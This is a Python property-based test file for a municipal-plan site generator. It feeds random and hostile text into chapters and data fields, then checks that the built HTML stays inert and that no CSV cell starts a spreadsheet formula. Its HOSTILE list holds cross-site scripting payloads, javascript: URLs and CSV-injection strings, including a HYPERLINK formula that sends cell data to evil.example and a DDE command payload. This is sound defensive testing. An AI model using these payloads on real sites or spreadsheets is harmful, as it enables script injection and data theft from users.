"""Property-based: random Unicode, HTML and Markdown in every text field and chapter never reach
the built pages as markup that could act, and never start a formula in a published CSV.

Two levels: many examples through the chapter renderer and the same Markdown the site engine
runs (fast), and a few whole builds of a plan whose every text is random (slow, real engine).
On the parsed output: no element carries a theme id, an ``on*`` handler, a ``javascript:`` or
``data:`` URL, a ``style`` attribute or a form control; no page has duplicate ids; no CSV cell
starts a formula.
"""

from __future__ import annotations

import csv
import json
import shutil
import tempfile
from pathlib import Path

import markdown
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from markdown.extensions.toc import TocExtension

from generator.build.pipeline import BuildFailed, build_site
from generator.ingest import markup
from generator.outputs.cells import FORMULA_START, neutralise

from .conftest import ROOT, csv_text, make_package, page_tags

HOSTILE = [
    "<script>alert(1)</script>", '<div id="__config">{"search":"data:text/javascript,alert(1)"}</div>',
    '<svg style="position:fixed"><a href="https://evil.example">x</a></svg>', '<a class="md-button" href="https://e.x">in</a>',
    "<form><input autofocus onfocus=alert(1)></form>", "<img src=x onerror=alert(1)>", '<p style="display:none">p</p>',
    "[js](javascript:alert(1))", "[js](JaVaScRiPt&#58;alert(1))", "[data](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="&#106;avascript:alert(1)">e</a>', "<iframe src=//e.x>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "## __drawer", "# __search", "{: #__toc style=\"color:red\" onclick=alert(1) }", "<h2 id=__consent>h</h2>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "[a](#__config)", "![bild](javascript:alert(1))",
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1",
    "| a | b |\n|---|---|\n| <b onclick=x>1</b> | 2 |", "- a\n    - b\n        - c", "> citat\n> > djupare", "`<script>`",
    "<details open ontoggle=alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//e.x/a.css>",
]
THEME = ("__config", "__search", "__drawer", "__toc", "__consent", "__palette", "__nav", "__settings")
#: Never in page content: what runs, loads or asks for input.
ACTIVE = {"script", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "style", "link",
          "meta", "base"}
#: Never in a chapter either (generated pages draw their charts as inline SVG).
CHAPTER_ONLY = {"svg", "math", "details"}
TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
CHUNKS = st.lists(st.one_of(TEXT, st.sampled_from(HOSTILE)), max_size=10)
SETTINGS = dict(deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


def _bad_url(value: str) -> bool:
    squashed = "".join(value.split()).lower()
    return squashed.startswith(("javascript:", "data:", "vbscript:"))


def assert_inert(tags, where: str, chapter: bool = False) -> None:
    """No element in ``tags`` (a page's content, as (name, attributes) pairs) can act, load, ask for
    input or shadow the theme."""
    for name, attrs in tags:
        shown = f"<{name} {attrs}>"[:120]
        assert name not in (ACTIVE | CHAPTER_ONLY if chapter else ACTIVE), (where, shown)
        assert not any(attr.lower().startswith("on") for attr in attrs), (where, shown)
        assert "style" not in attrs, (where, shown)
        for attr in ("href", "src", "action", "formaction", "xlink:href"):
            assert not _bad_url(attrs.get(attr) or ""), (where, shown)
        assert not (attrs.get("id") or "").startswith(THEME), (where, shown)
        if chapter:
            assert not any(c.startswith("md-") for c in (attrs.get("class") or "").split()), (where, shown)


def soup_tags(soup) -> list[tuple[str, dict]]:
    """Every element of a BeautifulSoup tree as (name, attributes), a class list as its text."""
    return [(tag.name, {k: " ".join(v) if isinstance(v, list) else v for k, v in tag.attrs.items()})
            for tag in soup.find_all(True)]


def engine_html(body: str) -> str:
    """The page body as the site engine turns it into HTML (mkdocs.yml's Markdown extensions)."""
    return markdown.markdown("# Titel\n\n" + body, extensions=[
        "tables", "attr_list", TocExtension(permalink=False, slugify=markup.heading_id)])


@settings(max_examples=300, **SETTINGS)
@given(CHUNKS, st.sampled_from(["\n", "\n\n", " "]))
@example(["#_", "_"], " ")  # found by hypothesis: the heading's id "user-content-_-_" was read as emphasis
def test_a_rendered_chapter_is_inert_whatever_it_holds(chunks: list[str], glue: str):
    ctx = markup.ChapterContext("plan", "kapitel", (("01-kapitel.md", "kapitel"),), frozenset({"org.png"}))
    rendered = markup.render(glue.join(chunks), ctx)
    if any(p[3] == "error" for p in rendered.problems):
        assert rendered.body == ""  # nothing of a chapter with an error is published
        return
    soup = BeautifulSoup(engine_html(rendered.body), "html.parser")
    assert_inert(soup_tags(soup), "chapter", chapter=True)
    ids = [t["id"] for t in soup.find_all(id=True)]
    assert len(ids) == len(set(ids)), ids
    assert all(i.startswith(markup.ID_PREFIX) for i in ids if i != "titel"), ids


@settings(max_examples=300, **SETTINGS)
@given(st.one_of(TEXT, st.sampled_from(HOSTILE)))
def test_no_neutralised_cell_starts_a_formula(text: str):
    assume(text)
    out = neutralise(text)
    assert not starts_formula(out), repr(out)
    assert out in (text, "'" + text)


def starts_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: it starts with a formula sign and is more than a number."""
    return bool(cell) and cell[0] in FORMULA_START and neutralise(cell) != cell


# --- whole builds ---------------------------------------------------------------------------------

#: Text validation accepts (no control, bidi or zero-width characters: those are refused or
#: warned about, which tests/test_bad_input.py covers), so that the builds here succeed.
PRINTABLE = st.text(st.characters(exclude_categories=("Cs", "Cc", "Cf")), max_size=40)
FIELD = st.one_of(PRINTABLE.map(lambda t: "T " + t), st.sampled_from(HOSTILE).map(lambda t: "T " + t),
                  st.sampled_from(HOSTILE))


def _files(texts: list[str]) -> dict[str, str]:
    t = iter(texts)
    goals = csv_text(
        ["goal_id", "parent_id", "level", "level_label", "code", "title", "description", "decided_by", "agenda2030", "crc_articles", "section", "order", "note"],
        [["omrade", "", "area", "", "", next(t), next(t), "", "", "", next(t), "1", next(t)],
         ["mal-1", "omrade", "board_goal", next(t), "", next(t), next(t), "", "", "", "1", "2", next(t)]])
    indicators = csv_text(
        ["indicator_id", "goal_id", "name", "unit", "kind", "direction", "kolada_id", "concordance_key", "decided_by", "measures", "agenda2030", "table_id", "section", "order", "note"],
        [["vantetid", "mal-1", next(t), next(t), "target", "lower", "", "", "", "", "", "", next(t), "1", next(t)]])
    observations = csv_text(
        ["indicator_id", "period", "value_type", "gender", "comparator", "value", "value_max", "printed", "trend", "comparison", "note"],
        [["vantetid", "2022", "utfall", "T", "", "13", "", next(t), "", next(t), next(t)],
         ["vantetid", "2025", "mal", "T", "<=", "", "", next(t), "", "", next(t)]])
    lines = csv_text(["line_id", "table_id", "parent_id", "code", "name", "is_total", "section", "order", "note"],
                     [["a", "drift", "", next(t), next(t), "false", "", "1", next(t)]])
    values = csv_text(["line_id", "column", "period", "value_type", "measure", "amount", "printed", "note"],
                      [["a", next(t), "2024", "budget", "netto", "30.4", next(t), next(t)]])
    return {"goals.csv": goals, "indicators.csv": indicators, "observations.csv": observations,
            "budget_lines.csv": lines, "budget_values.csv": values}


#: What validation may refuse on purpose in random text (the plan leaves the site; the others build).
REFUSED = {"control-character", "bidi-control", "binary-file", "constraint-error", "chapter-too-deep",
           "chapter-broken-link", "chapter-missing-image", "chapter-external-image"}
PLANS = 8  # random plans in one site: one build (two engine runs) instead of one build each


def _random_project(root: Path, plans: list[tuple[list[str], list[str]]]) -> list[str]:
    """The project of ``plans`` (each: 30 texts for every text field, the chunks of one chapter);
    the plan ids."""
    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(ROOT / "site_theme", root / "site_theme")
    ids = []
    for number, (texts, chapter) in enumerate(plans):
        plan_id = f"slump-testnamnd{chr(ord('a') + number)}-2024"
        plan = {"municipality": "Värnamo", "municipality_code": "0683", "board": texts[26], "title": texts[27],
                "document_type": "verksamhetsplan", "period_start": 2024, "period_end": 2025, "data_start": 2022,
                "source": {"title": texts[28]}, "notes": [texts[29]]}
        make_package(root, plan_id, files=_files(texts), plan=plan)
        folder = root / "content" / plan_id
        folder.mkdir(parents=True)
        (folder / "01-kapitel.md").write_text(f"---\ntitle: {json.dumps(texts[0])}\n---\n\n" + "\n\n".join(chapter),
                                              encoding="utf-8")
        ids.append(plan_id)
    return ids


# The same site every run (a failing build takes minutes to shrink, so CI should not meet a new one
# by chance): Hypothesis's first example is the simplest (empty texts), the second PLANS random plans.
# Raise max_examples and drop derandomize to explore: 60 one-plan builds passed when written.
@settings(max_examples=2, derandomize=True, **SETTINGS)
@given(st.lists(st.tuples(st.lists(FIELD, min_size=30, max_size=30),
                          st.lists(st.one_of(PRINTABLE, st.sampled_from(HOSTILE)), max_size=10)),
                min_size=PLANS, max_size=PLANS))
def test_a_built_site_of_random_text_is_inert(plans: list[tuple[list[str], list[str]]]):
    root = Path(tempfile.mkdtemp(prefix="slump-"))
    try:
        ids = _random_project(root, plans)
        refused: set[str] = set()
        try:
            site = build_site(root, root / "site").site_dir
        except BuildFailed as exc:  # only texts validation refuses on purpose may stop the build
            assert exc.report is not None and {p.code for p in exc.report.errors} <= REFUSED, exc.report
            refused = {plan_id for p in exc.report.errors for plan_id in ids if plan_id in Path(p.file).parts}
            for plan_id in refused:  # those plans leave the site; the others must build
                shutil.rmtree(root / "datapackages" / plan_id)
                shutil.rmtree(root / "content" / plan_id)
            assume(len(refused) < len(ids))
            site = build_site(root, root / "site").site_dir
        assert sorted(p.name for p in site.iterdir() if p.name.startswith("slump-")) == sorted(set(ids) - refused)
        for path in site.rglob("*.html"):  # read with the tokenizer BeautifulSoup uses (conftest.page_tags)
            tags = page_tags(path).tags
            ids_on_page = [attrs["id"] for _, attrs, _ in tags if attrs.get("id") is not None]
            assert len(ids_on_page) == len(set(ids_on_page)), (path, sorted({i for i in ids_on_page if ids_on_page.count(i) > 1}))
            for name, attrs, _ in tags:
                assert not any(attr.lower().startswith("on") for attr in attrs), (path, name, attrs)
                for attr in ("href", "src"):
                    assert not _bad_url(attrs.get(attr) or ""), (path, name, attrs)
            assert_inert([(name, attrs) for name, attrs, in_article in tags if in_article], str(path),
                         chapter="/text/" in path.as_posix())
        for path in site.rglob("*.csv"):
            with path.open(encoding="utf-8", newline="") as fh:
                for row in csv.reader(fh):
                    assert not [c for c in row if starts_formula(c)], (path, row)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_a_unit_or_name_with_a_line_break_still_draws_its_chart():
    """Found by the whole-build property test: a line break in the unit broke the chart engine's
    expressions and so the build."""
    from decimal import Decimal

    from generator.model.plan import Indicator, Observation
    from generator.render import charts

    obs = (Observation(indicator_id="i", period=2022, value_type="utfall", gender="T", value=Decimal(5)),
           Observation(indicator_id="i", period=2023, value_type="utfall", gender="T", value=Decimal(6)))
    ind = Indicator(indicator_id="i", goal_id="", name="Andel\nelever", unit="procent\r\nav alla", kind="monitoring",
                    order=1, observations=obs)
    svg = charts.to_svg(charts.indicator_chart(ind, lang="sv"), "Andel elever", "beskrivning", "diagram-i")
    assert svg.startswith("<svg") and "procent av alla" in svg
